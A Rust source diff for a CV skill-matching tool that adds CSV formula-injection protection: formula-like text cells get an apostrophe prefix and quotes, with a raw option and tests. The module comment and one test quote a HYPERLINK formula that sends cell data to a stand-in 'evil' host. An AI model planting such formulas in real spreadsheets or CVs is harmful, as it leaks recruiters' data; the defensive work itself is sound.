@@ -1,21 +1,121 @@
 //! CSV output: one row per matched skill (with its best evidence sentence), per listed
 //! skill, or per level of a shown skill.
+//!
+//! **Formula injection.** A recruiter opens these files in a spreadsheet, and a cell that
+//! starts with `=`, `+`, `-` or `@` (or a tab or carriage return) is taken there for a
+//! formula: a CV whose sentence reads `=HYPERLINK("http://evil/?"&A1,"click")` would run
+//! in the reader's spreadsheet. Following OWASP's advice, every *text* cell (evidence,
+//! names, codes, ids, file names, errors) that starts with one of those characters is
+//! written with a `'` in front and in double quotes (`"'=HYPERLINK(…)"`), which
+//! spreadsheets show as text. Numeric cells (ranks, levels, scores, offsets) are never
+//! touched: they are written by skillmatch, not copied from a document. `--csv-raw`
+//! ([`CellGuard::Raw`]) writes text cells unchanged, for programs that read the CSV.
+//! Quoting otherwise follows RFC 4180: a cell holding a comma, a quote or a line break is
+//! quoted, quotes doubled.
 
 use super::{levels_label, SkillDetail, SkillSummary};
 use crate::matching::MatchReport;
 use crate::recruit::{Candidate, Comparison};
+use std::borrow::Cow;
 use std::io::{self, Write};
 
-fn writer(out: &mut dyn Write) -> csv::Writer<&mut dyn Write> {
-    csv::WriterBuilder::new().from_writer(out)
+/// How text cells that a spreadsheet would read as a formula are written.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
+pub enum CellGuard {
+    /// Prefixed with `'` and quoted (the default; see the module documentation).
+    #[default]
+    Neutralise,
+    /// Written unchanged (`--csv-raw`), for machine consumers.
+    Raw,
 }
 
-fn csv_err(e: csv::Error) -> io::Error {
-    match e.into_kind() {
-        csv::ErrorKind::Io(io) => io,
-        other => io::Error::other(format!("{other:?}")),
+/// One cell of a record: text (guarded) or a number skillmatch formatted (never guarded).
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Cell<'a> {
+    /// Text that may come from a document, a file name or a framework.
+    Text(&'a str),
+    /// A number (or empty) formatted by skillmatch.
+    Number(&'a str),
+}
+
+/// Whether a spreadsheet could take a cell starting like `text` for a formula: the
+/// characters OWASP lists (`=`, `+`, `-`, `@`, tab, carriage return).
+pub fn is_formula_like(text: &str) -> bool {
+    matches!(text.as_bytes().first(), Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r'))
+}
+
+/// The bytes of one cell as written: guarded (for [`Cell::Text`] under
+/// [`CellGuard::Neutralise`]) and quoted where needed.
+pub fn encode_cell(cell: Cell<'_>, guard: CellGuard) -> Cow<'_, str> {
+    let (text, neutralise) = match cell {
+        Cell::Text(t) => (t, guard == CellGuard::Neutralise && is_formula_like(t)),
+        Cell::Number(n) => (n, false),
+    };
+    let special = text.bytes().any(|b| matches!(b, b',' | b'"' | b'\n' | b'\r'));
+    if !neutralise && !special {
+        return Cow::Borrowed(text);
+    }
+    let mut out = String::with_capacity(text.len() + 4);
+    out.push('"');
+    if neutralise {
+        out.push('\'');
+    }
+    out.push_str(&text.replace('"', "\"\""));
+    out.push('"');
+    Cow::Owned(out)
+}
+
+/// A CSV writer over `W`: comma-separated, `\n` after each record, text cells guarded
+/// according to its [`CellGuard`].
+#[derive(Debug)]
+pub struct CsvWriter<W: Write> {
+    out: W,
+    guard: CellGuard,
+    line: String,
+}
+
+impl<W: Write> CsvWriter<W> {
+    /// A writer to `out`.
+    pub fn new(out: W, guard: CellGuard) -> CsvWriter<W> {
+        CsvWriter { out, guard, line: String::new() }
+    }
+
+    /// Write a header row (skillmatch's own column names).
+    pub fn header(&mut self, names: &[&str]) -> io::Result<()> {
+        let cells: Vec<Cell<'_>> = names.iter().map(|n| Cell::Text(n)).collect();
+        self.record(&cells)
+    }
+
+    /// Write one record.
+    pub fn record(&mut self, cells: &[Cell<'_>]) -> io::Result<()> {
+        self.line.clear();
+        for (i, cell) in cells.iter().enumerate() {
+            if i > 0 {
+                self.line.push(',');
+            }
+            self.line.push_str(&encode_cell(*cell, self.guard));
+        }
+        // A record of one empty cell would read back as a blank line, that is no record.
+        if cells.len() == 1 && self.line.is_empty() {
+            self.line.push_str("\"\"");
+        }
+        self.line.push('\n');
+        self.out.write_all(self.line.as_bytes())
+    }
+
+    /// Flush the underlying writer.
+    pub fn flush(&mut self) -> io::Result<()> {
+        self.out.flush()
+    }
+
+    /// The underlying writer, flushed.
+    pub fn into_inner(mut self) -> io::Result<W> {
+        self.out.flush()?;
+        Ok(self.out)
     }
 }
+
+use Cell::{Number as N, Text as T};
 
 /// Header of [`write_report`]'s rows.
 pub const MATCH_HEADER: [&str; 12] = [
@@ -34,61 +134,71 @@ pub const MATCH_HEADER: [&str; 12] = [
 ];
 
 /// A match report: one row per matched skill.
-pub fn write_report(out: &mut dyn Write, report: &MatchReport, header: bool) -> io::Result<()> {
-    let mut w = writer(out);
+pub fn write_report(
+    out: &mut dyn Write,
+    report: &MatchReport,
+    header: bool,
+    guard: CellGuard,
+) -> io::Result<()> {
+    let mut w = CsvWriter::new(out, guard);
     if header {
-        w.write_record(MATCH_HEADER).map_err(csv_err)?;
+        w.header(&MATCH_HEADER)?;
     }
     for (rank, m) in report.matches.iter().enumerate() {
         let best = m.evidence.first();
-        w.write_record([
-            report.source.as_str(),
-            &(rank + 1).to_string(),
-            &m.framework,
-            &m.code,
-            &m.name,
-            &m.category,
-            &m.subcategory,
-            &m.level.map(|l| l.to_string()).unwrap_or_default(),
-            &format!("{:.3}", m.score),
-            best.map_or("", |e| e.text.as_str()),
-            &best.map(|e| e.start.to_string()).unwrap_or_default(),
-            &best.map(|e| e.end.to_string()).unwrap_or_default(),
-        ])
-        .map_err(csv_err)?;
+        let (rank, level, score) = (
+            (rank + 1).to_string(),
+            m.level.map(|l| l.to_string()).unwrap_or_default(),
+            format!("{:.3}", m.score),
+        );
+        let start = best.map(|e| e.start.to_string()).unwrap_or_default();
+        let end = best.map(|e| e.end.to_string()).unwrap_or_default();
+        w.record(&[
+            T(&report.source),
+            N(&rank),
+            T(&m.framework),
+            T(&m.code),
+            T(&m.name),
+            T(&m.category),
+            T(&m.subcategory),
+            N(&level),
+            N(&score),
+            T(best.map_or("", |e| e.text.as_str())),
+            N(&start),
+            N(&end),
+        ])?;
     }
     w.flush()
 }
 
 /// A skill list.
-pub fn write_list(out: &mut dyn Write, skills: &[SkillSummary<'_>]) -> io::Result<()> {
-    let mut w = writer(out);
-    w.write_record(["framework", "code", "name", "category", "subcategory", "levels"]).map_err(csv_err)?;
+pub fn write_list(out: &mut dyn Write, skills: &[SkillSummary<'_>], guard: CellGuard) -> io::Result<()> {
+    let mut w = CsvWriter::new(out, guard);
+    w.header(&["framework", "code", "name", "category", "subcategory", "levels"])?;
     for s in skills {
-        w.write_record([s.framework, s.code, s.name, s.category, s.subcategory, &levels_label(&s.levels)])
-            .map_err(csv_err)?;
+        let levels = levels_label(&s.levels);
+        w.record(&[T(s.framework), T(s.code), T(s.name), T(s.category), T(s.subcategory), N(&levels)])?;
     }
     w.flush()
 }
 
 /// Skill details: one row per level.
-pub fn write_details(out: &mut dyn Write, details: &[SkillDetail<'_>]) -> io::Result<()> {
-    let mut w = writer(out);
-    w.write_record(["framework", "code", "name", "category", "subcategory", "level", "description"])
-        .map_err(csv_err)?;
+pub fn write_details(out: &mut dyn Write, details: &[SkillDetail<'_>], guard: CellGuard) -> io::Result<()> {
+    let mut w = CsvWriter::new(out, guard);
+    w.header(&["framework", "code", "name", "category", "subcategory", "level", "description"])?;
     for d in details {
         let s = &d.skill;
         for level in &s.levels {
-            w.write_record([
-                d.framework,
-                &s.code,
-                &s.name,
-                &s.category,
-                &s.subcategory,
-                &level.level.to_string(),
-                &level.description,
-            ])
-            .map_err(csv_err)?;
+            let number = level.level.to_string();
+            w.record(&[
+                T(d.framework),
+                T(&s.code),
+                T(&s.name),
+                T(&s.category),
+                T(&s.subcategory),
+                N(&number),
+                T(&level.description),
+            ])?;
         }
     }
     w.flush()
@@ -114,29 +224,32 @@ pub const COMPARISON_HEADER: [&str; 15] = [
 ];
 
 /// A comparison: one row per required skill (the overall fit repeated on each).
-pub fn write_comparison(out: &mut dyn Write, c: &Comparison) -> io::Result<()> {
-    let mut w = writer(out);
-    w.write_record(COMPARISON_HEADER).map_err(csv_err)?;
+pub fn write_comparison(out: &mut dyn Write, c: &Comparison, guard: CellGuard) -> io::Result<()> {
+    let mut w = CsvWriter::new(out, guard);
+    w.header(&COMPARISON_HEADER)?;
     let opt = |v: Option<u8>| v.map(|v| v.to_string()).unwrap_or_default();
+    let fit = format!("{:.3}", c.fit);
     for (rank, s) in c.skills.iter().enumerate() {
-        w.write_record([
-            c.advert.as_str(),
-            &c.cv,
-            &format!("{:.3}", c.fit),
-            &(rank + 1).to_string(),
-            &s.framework,
-            &s.code,
-            &s.name,
-            &opt(s.required_level),
-            &opt(s.cv_level),
-            s.verdict.as_str(),
-            &opt(s.gap),
-            &format!("{:.3}", s.weight),
-            &format!("{:.3}", s.credit),
-            s.advert_evidence.first().map_or("", |e| e.text.as_str()),
-            s.cv_evidence.first().map_or("", |e| e.text.as_str()),
-        ])
-        .map_err(csv_err)?;
+        let rank = (rank + 1).to_string();
+        let (required, shown, gap) = (opt(s.required_level), opt(s.cv_level), opt(s.gap));
+        let (weight, credit) = (format!("{:.3}", s.weight), format!("{:.3}", s.credit));
+        w.record(&[
+            T(&c.advert),
+            T(&c.cv),
+            N(&fit),
+            N(&rank),
+            T(&s.framework),
+            T(&s.code),
+            T(&s.name),
+            N(&required),
+            N(&shown),
+            T(s.verdict.as_str()),
+            N(&gap),
+            N(&weight),
+            N(&credit),
+            T(s.advert_evidence.first().map_or("", |e| e.text.as_str())),
+            T(s.cv_evidence.first().map_or("", |e| e.text.as_str())),
+        ])?;
     }
     w.flush()
 }
@@ -160,9 +273,9 @@ pub const SHORTLIST_HEADER: [&str; 13] = [
 
 /// A shortlist: one row per CV, failed ones with an empty rank and their error; `verdicts`
 /// lists every requirement as CODE:verdict[:gap].
-pub fn write_shortlist(out: &mut dyn Write, candidates: &[Candidate]) -> io::Result<()> {
-    let mut w = writer(out);
-    w.write_record(SHORTLIST_HEADER).map_err(csv_err)?;
+pub fn write_shortlist(out: &mut dyn Write, candidates: &[Candidate], guard: CellGuard) -> io::Result<()> {
+    let mut w = CsvWriter::new(out, guard);
+    w.header(&SHORTLIST_HEADER)?;
     for c in candidates {
         let verdicts: Vec<String> = c
             .skills
@@ -174,22 +287,61 @@ pub fn write_shortlist(out: &mut dyn Write, candidates: &[Candidate]) -> io::Res
             .collect();
         let scored = c.fit.is_some();
         let count = |n: usize| if scored { n.to_string() } else { String::new() };
-        w.write_record([
-            c.rank.map(|r| r.to_string()).unwrap_or_default(),
-            c.id.clone(),
-            c.fit.map(|f| format!("{f:.3}")).unwrap_or_default(),
-            count(c.met),
-            count(c.below),
-            count(c.missing),
-            c.strongest_evidence.as_ref().map(|h| h.code.clone()).unwrap_or_default(),
-            c.strongest_evidence.as_ref().map(|h| h.text.clone()).unwrap_or_default(),
-            c.biggest_gap.as_ref().map(|g| g.code.clone()).unwrap_or_default(),
-            c.biggest_gap.as_ref().map(|g| g.verdict.as_str().to_string()).unwrap_or_default(),
-            c.biggest_gap.as_ref().and_then(|g| g.gap).map(|n| n.to_string()).unwrap_or_default(),
-            verdicts.join(" "),
-            c.error.clone().unwrap_or_default(),
-        ])
-        .map_err(csv_err)?;
+        let rank = c.rank.map(|r| r.to_string()).unwrap_or_default();
+        let fit = c.fit.map(|f| format!("{f:.3}")).unwrap_or_default();
+        let (met, below, missing) = (count(c.met), count(c.below), count(c.missing));
+        let strongest = c.strongest_evidence.as_ref();
+        let gap = c.biggest_gap.as_ref();
+        let gap_size = gap.and_then(|g| g.gap).map(|n| n.to_string()).unwrap_or_default();
+        let verdicts = verdicts.join(" ");
+        w.record(&[
+            N(&rank),
+            T(&c.id),
+            N(&fit),
+            N(&met),
+            N(&below),
+            N(&missing),
+            T(strongest.map_or("", |h| h.code.as_str())),
+            T(strongest.map_or("", |h| h.text.as_str())),
+            T(gap.map_or("", |g| g.code.as_str())),
+            T(gap.map_or("", |g| g.verdict.as_str())),
+            N(&gap_size),
+            T(&verdicts),
+            T(c.error.as_deref().unwrap_or("")),
+        ])?;
     }
     w.flush()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn line(cells: &[Cell<'_>], guard: CellGuard) -> String {
+        let mut out = Vec::new();
+        CsvWriter::new(&mut out, guard).record(cells).unwrap();
+        String::from_utf8(out).unwrap()
+    }
+
+    #[test]
+    fn formula_like_text_is_prefixed_and_quoted_numbers_are_not() {
+        let cells = [T("=1+2"), T("+44 20"), T("-x"), T("@SUM(A1)"), T("\tx"), T("\rx"), N("-1.5"), T("a=b")];
+        assert_eq!(
+            line(&cells, CellGuard::Neutralise),
+            "\"'=1+2\",\"'+44 20\",\"'-x\",\"'@SUM(A1)\",\"'\tx\",\"'\rx\",-1.5,a=b\n"
+        );
+        assert_eq!(line(&cells, CellGuard::Raw), "=1+2,+44 20,-x,@SUM(A1),\tx,\"\rx\",-1.5,a=b\n");
+    }
+
+    #[test]
+    fn quoting_follows_rfc_4180_and_reads_back() {
+        let cells =
+            [T("=HYPERLINK(\"http://x/?\"&A1,\"go\")"), T("plain"), T("a,b"), T("line\nbreak"), T("")];
+        let text = line(&cells, CellGuard::Neutralise);
+        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
+        let record = reader.records().next().unwrap().unwrap();
+        let read: Vec<&str> = record.iter().collect();
+        assert_eq!(read, vec!["'=HYPERLINK(\"http://x/?\"&A1,\"go\")", "plain", "a,b", "line\nbreak", ""]);
+        assert_eq!(line(&[T("")], CellGuard::Raw), "\"\"\n", "a lone empty cell is still a record");
+    }
 }
